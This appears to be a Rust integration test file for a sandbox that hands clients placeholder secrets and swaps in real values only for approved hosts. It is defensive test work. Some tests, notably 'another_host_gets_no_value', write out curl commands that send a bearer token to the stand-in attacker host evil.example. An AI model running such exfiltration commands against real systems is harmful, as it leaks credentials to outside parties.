//! Secrets in sandboxes: real clients send placeholders, and hosts get values.

mod life;
mod search;

use std::fs;
use std::io::Write as _;
use std::process::Stdio;
use std::sync::Arc;
use std::time::{Duration, Instant};

use anyhow::{Context, Result, ensure};
use serde_json::Value;

use super::product::Product;
use super::world::World;

/// Where the value may go.
const HOST: &str = "www.allowed.example";
/// What the sandbox may reach: that host, and others that its secret does not name.
const POLICY: [&str; 4] = [
    "--network=none",
    "--allow=*.allowed.example:80,443",
    "--allow=evil.example:80,443",
    "--allow=github.com:443",
];

/// A product with a sandbox that has a secret.
pub(super) struct Stage {
    pub(super) product: Product,
    pub(super) value: String,
}

impl Stage {
    /// None, and a word why, when the test cannot have one.
    pub(super) fn new(test: &str) -> Result<Option<Self>> {
        let Some(world) = World::shared(test)? else { return Ok(None) };
        Self::within(world).map(Some)
    }

    pub(super) fn within(world: Arc<World>) -> Result<Self> {
        Self::of(Product::start(world)?)
    }

    pub(super) fn of(product: Product) -> Result<Self> {
        let letters = fs::read_to_string("/proc/sys/kernel/random/uuid")?.replace('-', "");
        // With letters that addresses, forms and documents escape.
        let value = format!("v/{}+\"{}", &letters[..16], &letters.trim()[16..]);
        let stage = Self { product, value };
        stage.set("TOKEN", HOST, &stage.value)?;
        let words = ["create", "--name=box", "--secret=TOKEN"];
        stage.product.run(&[&words[..], &POLICY].concat())?;
        Ok(stage)
    }

    /// Sets a secret; the value goes in by standard input.
    pub(super) fn set(&self, name: &str, host: &str, value: &str) -> Result<()> {
        let mut command = self.product.command(&["secret", "set", name, "--host", host]);
        command.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped());
        let mut child = command.spawn()?;
        child.stdin.take().context("no standard input")?.write_all(value.as_bytes())?;
        let output = child.wait_with_output()?;
        ensure!(output.status.success(), "{output:?}");
        Ok(())
    }

    /// Runs a script inside and gives all that it wrote.
    pub(super) fn shell(&self, script: &str) -> Result<String> {
        let line = format!("{{ {script}\n}} 2>&1");
        let words = ["exec", "--timeout=60s", "box", "/bin/sh", "-c", &line];
        let output = self.product.command(&words).output()?;
        let text = String::from_utf8_lossy(&output.stdout).into_owned();
        Ok(text + &String::from_utf8_lossy(&output.stderr))
    }

    /// The last request that a host got at this path.
    pub(super) fn got(&self, path: &str) -> Result<Value> {
        let file = self.product.world().folder().join("echoes.jsonl");
        let text = fs::read_to_string(file)?;
        let mut all = text.lines().rev().filter_map(|line| serde_json::from_str(line).ok());
        let is_it = |got: &Value| got["line"].as_str().is_some_and(|line| line.contains(path));
        all.find(is_it).with_context(|| format!("nobody got `{path}`"))
    }

    /// The placeholder of the sandbox.
    pub(super) fn placeholder(&self) -> Result<String> {
        self.shell("printf %s \"$TOKEN\"")
    }

    /// Waits until the log of connections has a line with all of these words.
    pub(super) fn logged(&self, words: &[&str]) -> Result<String> {
        let begun = Instant::now();
        loop {
            let log = self.product.run(&["net", "log", "box"])?;
            if let Some(line) =
                log.lines().find(|line| words.iter().all(|word| line.contains(word)))
            {
                return Ok(line.to_owned());
            }
            ensure!(begun.elapsed() < Duration::from_secs(5), "no {words:?} in\n{log}");
            std::thread::park_timeout(Duration::from_millis(50));
        }
    }

    /// The answer of an echo has the placeholder, and the host got the value.
    fn check_swapped(&self, path: &str, said: &str) -> Result<Value> {
        ensure!(!said.contains(&self.value), "the value came in: {said}");
        ensure!(said.contains("infield_secret_TOKEN_"), "nothing is masked: {said}");
        let got = self.got(path)?;
        ensure!(!got.to_string().contains("infield_secret_"), "a placeholder went out: {got}");
        Ok(got)
    }
}

fn header<'a>(got: &'a Value, name: &str) -> Option<&'a str> {
    let headers = got["headers"].as_array()?.iter();
    let found = headers.filter_map(|pair| Some((pair[0].as_str()?, pair[1].as_str()?)));
    found.rev().find(|(known, _)| known.eq_ignore_ascii_case(name)).map(|(_, value)| value)
}

#[test]
fn curl_sends_a_value_that_it_never_has() -> Result<()> {
    let Some(stage) = Stage::new("curl_sends_a_value_that_it_never_has")? else { return Ok(()) };
    let bearer = format!("Bearer {}", stage.value);
    for (number, version) in ["--http1.1", "--http2"].into_iter().enumerate() {
        let path = format!("/echo/{number}/plain");
        let script = format!(
            "curl -sS {version} -H \"Authorization: Bearer $TOKEN\" 'https://{HOST}{path}?key='$TOKEN"
        );
        let said = stage.shell(&script)?;
        let got = stage.check_swapped(&path, &said)?;
        assert_eq!(header(&got, "authorization"), Some(&*bearer), "{got}");
        let escaped = stage.value.replace('/', "%2F").replace('+', "%2B").replace('"', "%22");
        ensure!(got["line"].as_str().is_some_and(|line| line.contains(&escaped)), "{got}");
    }
    let line = stage.logged(&[HOST, "443"])?;
    ensure!(line.contains("ok"), "{line}");
    Ok(())
}

#[test]
fn python_and_node_trust_the_authority() -> Result<()> {
    let Some(stage) = Stage::new("python_and_node_trust_the_authority")? else { return Ok(()) };
    let urllib = format!(
        "/usr/bin/python3 -c 'import os, urllib.request as u; r = u.Request(\"https://{HOST}/echo/urllib/plain\", \
         headers={{\"X-Key\": os.environ[\"TOKEN\"]}}); print(u.urlopen(r).read().decode())'"
    );
    let requests = format!(
        "/usr/bin/python3 -c 'import os; from pip._vendor import requests as r; \
         print(r.get(\"https://{HOST}/echo/requests/plain\", auth=(\"me\", os.environ[\"TOKEN\"])).text)'"
    );
    let node = format!(
        "node -e 'fetch(\"https://{HOST}/echo/node/plain\", {{method: \"POST\", headers: \
         {{\"content-type\": \"application/json\"}}, body: JSON.stringify({{key: process.env.TOKEN}})}})\
         .then(r => r.text()).then(console.log)'"
    );
    let got = stage.check_swapped("/echo/urllib/plain", &stage.shell(&urllib)?)?;
    assert_eq!(header(&got, "x-key"), Some(&*stage.value));
    stage.check_swapped("/echo/requests/plain", &stage.shell(&requests)?)?;
    let got = stage.check_swapped("/echo/node/plain", &stage.shell(&node)?)?;
    let body: Value = serde_json::from_str(got["body"].as_str().context("no body")?)?;
    assert_eq!(body["key"], Value::String(stage.value.clone()), "{got}");
    Ok(())
}

#[test]
fn bodies_are_swapped_whatever_their_pieces() -> Result<()> {
    let Some(stage) = Stage::new("bodies_are_swapped_whatever_their_pieces")? else {
        return Ok(());
    };
    let post = |path: &str, how: &str| format!("curl -sS {how} 'https://{HOST}{path}'");
    let form = stage.shell(&post("/echo/form/plain", "--data-urlencode \"key=$TOKEN\""))?;
    let got = stage.check_swapped("/echo/form/plain", &form)?;
    let escaped = stage.value.replace('/', "%2F").replace('+', "%2B").replace('"', "%22");
    assert_eq!(got["body"], format!("key={escaped}"));
    let chunked = "-H 'Transfer-Encoding: chunked' -H 'Content-Type: text/plain' -d \"a${TOKEN}z\"";
    let said = stage.shell(&post("/echo/pieces/chunked", chunked))?;
    let got = stage.check_swapped("/echo/pieces/chunked", &said)?;
    assert_eq!(got["body"], format!("a{}z", stage.value));
    // Two megabytes, with the placeholder at their end.
    for version in ["--http1.1", "--http2"] {
        let big = format!(
            "{{ head -c 2000000 /dev/zero; printf %s \"$TOKEN\"; }} > big; \
             curl -sS {version} -H 'Content-Type: text/plain' -T big 'https://{HOST}/echo/big/long'"
        );
        let said = stage.shell(&format!("{big} | tail -c 3000"))?;
        ensure!(!said.contains(&stage.value), "{said}");
        let got = stage.got("/echo/big/long")?;
        assert_eq!(got["length"], 2_000_000 + stage.value.len(), "{got}");
    }
    Ok(())
}

#[test]
fn answers_are_masked_in_every_form() -> Result<()> {
    let Some(stage) = Stage::new("answers_are_masked_in_every_form")? else { return Ok(()) };
    let ask = |how: &str| {
        stage.shell(&format!(
            "curl -sS -i -H \"Authorization: Bearer $TOKEN\" 'https://{HOST}/echo/mask/{how}'"
        ))
    };
    for how in ["plain", "chunked", "header", "long"] {
        let said = ask(how)?;
        ensure!(said.contains("infield_secret_TOKEN_"), "{how}: {said}");
        ensure!(!said.contains(&stage.value), "{how}: {said}");
    }
    // Letters of base64 that others share are no value; what is left of it is no token.
    let coded = ask("base64")?;
    ensure!(coded.contains("infield_secret_TOKEN_"), "{coded}");
    let decoded = stage.shell(&format!(
        "curl -sS --compressed -H \"Authorization: Bearer $TOKEN\" 'https://{HOST}/echo/mask/gzip'"
    ))?;
    ensure!(decoded.contains("is compressed") && !decoded.contains(&stage.value), "{decoded}");
    // The host has it all the same, and says so in a way that does not tell it.
    ensure!(ask("hash")?.contains("200"));
    Ok(())
}

#[test]
fn another_host_gets_no_value() -> Result<()> {
    let Some(stage) = Stage::new("another_host_gets_no_value")? else { return Ok(()) };
    // Its TLS is not opened: it gets the placeholder, which means nothing there.
    let script =
        "curl -sS -k -H \"Authorization: Bearer $TOKEN\" https://evil.example/echo/evil/plain";
    let said = stage.shell(script)?;
    ensure!(said.contains("infield_secret_TOKEN_") && !said.contains(&stage.value), "{said}");
    let got = stage.got("/echo/evil/plain")?;
    ensure!(!got.to_string().contains(&stage.value), "{got}");
    // A redirect is followed by the client, and judged anew.
    let moved = format!(
        "curl -sS -k -L --location-trusted -H \"Authorization: Bearer $TOKEN\" https://{HOST}/echo/moved"
    );
    let said = stage.shell(&moved)?;
    ensure!(!said.contains(&stage.value), "{said}");
    let got = stage.got("GET /echo/plain")?;
    assert_eq!(got["host"], "evil.example");
    ensure!(!got.to_string().contains(&stage.value), "{got}");
    // Without TLS it goes to nobody, and somebody hears of it.
    for host in ["evil.example", HOST] {
        let script = format!("curl -sS -u \"me:$TOKEN\" http://{host}/echo/clear/plain");
        let said = stage.shell(&script)?;
        ensure!(said.contains("carries the placeholder of the secret `TOKEN`"), "{said}");
        stage.logged(&[host, "80", "placeholder"])?;
    }
    ensure!(stage.got("/echo/clear/plain").is_err());
    Ok(())
}

#[test]
fn a_placeholder_of_another_secret_is_refused_and_reported() -> Result<()> {
    let test = "a_placeholder_of_another_secret_is_refused_and_reported";
    let Some(stage) = Stage::new(test)? else { return Ok(()) };
    stage.set("OTHER", "github.com", "another value")?;
    let words = ["create", "--name=two", "--secret=TOKEN", "--secret=OTHER=KEY"];
    stage.product.run(&[&words[..], &POLICY].concat())?;
    let ask = |how: &str| {
        let line = format!("curl -sS {how} https://{HOST}/echo/stray/plain 2>&1");
        let words = ["exec", "--timeout=60s", "two", "/bin/sh", "-c", &line];
        let output = stage.product.command(&words).output()?;
        Ok::<_, anyhow::Error>(String::from_utf8_lossy(&output.stdout).into_owned())
    };
    for how in [
        "-H \"X-Key: $KEY\"",
        "--http1.1 -H \"X-Key: $KEY\"",
        "-d \"a=$KEY\"",
        "-H 'Transfer-Encoding: chunked' -d \"a=$KEY\"",
        "-u \"me:$KEY\"",
        "-G --data-urlencode \"a=$KEY\"",
    ] {
        let said = ask(how)?;
        ensure!(said.contains("carries the placeholder of the secret `OTHER`"), "{how}: {said}");
    }
    ensure!(stage.got("/echo/stray/plain").is_err(), "it went out");
    let said = ask("-H \"X-Key: $TOKEN\"")?;
    stage.check_swapped("/echo/stray/plain", &said)?;
    let log = stage.product.run(&["net", "log", "two"])?;
    ensure!(log.contains("`OTHER`, which does not name this host"), "{log}");
    Ok(())
}

#[test]
fn git_clones_with_a_token() -> Result<()> {
    let Some(stage) = Stage::new("git_clones_with_a_token")? else { return Ok(()) };
    let value = "a-token-for-git-alone";
    stage.set("GIT_TOKEN", "github.com", value)?;
    let passwords = stage.product.world().folder().join("passwords");
    fs::write(passwords, format!("me:{{PLAIN}}{value}\n"))?;
    let words = ["create", "--name=git", "--network=limited", "--secret=GIT_TOKEN"];
    stage.product.run(&words)?;
    let line = "cd /workspace && git clone --quiet \
                https://me:$GIT_TOKEN@github.com/private/team/probe.git 2>&1 && cat probe/README.md; \
                git -C probe config remote.origin.url";
    let words = ["exec", "--timeout=60s", "git", "/bin/sh", "-c", line];
    let output = stage.product.command(&words).output()?;
    let said = String::from_utf8_lossy(&output.stdout).into_owned();
    ensure!(said.contains("probed") && !said.contains(value), "{said}");
    let wrong = line.replace("$GIT_TOKEN", "wrong");
    let words = ["exec", "--timeout=60s", "git", "/bin/sh", "-c", &wrong];
    let output = stage.product.command(&words).output()?;
    ensure!(!String::from_utf8_lossy(&output.stdout).contains("probed\n"), "it asks for nothing");
    Ok(())
}

#[test]
fn what_cannot_be_trusted_is_not_opened() -> Result<()> {
    let Some(stage) = Stage::new("what_cannot_be_trusted_is_not_opened")? else { return Ok(()) };
    // A host whose certificate nobody vouches for gets nothing.
    stage.set("TOKEN", "strange.allowed.example", &stage.value)?;
    let script = "curl -sS -k -H \"X-Key: $TOKEN\" https://strange.allowed.example/";
    let said = stage.shell(script)?;
    ensure!(said.contains("invalid peer certificate"), "{said}");
    stage.set("TOKEN", HOST, &stage.value)?;
    // A client that trusts another authority alone cannot use a secret.
    let file = stage.product.world().authority().file().to_string_lossy().into_owned();
    stage.product.run(&["cp", &file, "box:/tmp/pinned.pem"])?;
    let script = format!("curl -sS --cacert /tmp/pinned.pem -H \"X-Key: $TOKEN\" https://{HOST}/");
    let said = stage.shell(&script)?;
    ensure!(said.contains("certificate"), "{said}");
    stage.logged(&[HOST, "pinned"])?;
    // What is not named is not opened: its certificate is its own.
    let script = "openssl s_client -connect evil.example:443 -servername evil.example \
                  </dev/null 2>/dev/null | openssl x509 -noout -issuer";
    ensure!(stage.shell(script)?.contains("infield test"), "{}", stage.shell(script)?);
    let script = format!(
        "openssl s_client -connect {HOST}:443 -servername {HOST} </dev/null 2>/dev/null \
         | openssl x509 -noout -issuer"
    );
    ensure!(stage.shell(&script)?.contains("infield sbx-"), "{}", stage.shell(&script)?);
    Ok(())
}

#[test]
fn a_websocket_passes_until_it_tells_the_value() -> Result<()> {
    let test = "a_websocket_passes_until_it_tells_the_value";
    let Some(stage) = Stage::new(test)? else { return Ok(()) };
    let ask = |path: &str| {
        stage.shell(&format!(
            "curl -sS --http1.1 -m 5 -o - -H \"Authorization: Bearer $TOKEN\" -H 'Connection: Upgrade' \
             -H 'Upgrade: websocket' -H 'Sec-WebSocket-Version: 13' \
             -H 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==' 'https://{HOST}{path}'"
        ))
    };
    let said = ask("/echo/quiet/socket")?;
    ensure!(said.contains("hello") && said.contains("and bye"), "{said}");
    let got = stage.got("/echo/quiet/socket")?;
    let bearer = format!("Bearer {}", stage.value);
    assert_eq!(header(&got, "authorization"), Some(&*bearer));
    let said = ask("/echo/loud/socket")?;
    ensure!(said.contains("hello") && !said.contains(&stage.value[..12]), "{said}");
    stage.logged(&[HOST, "WebSocket"])?;
    Ok(())
}
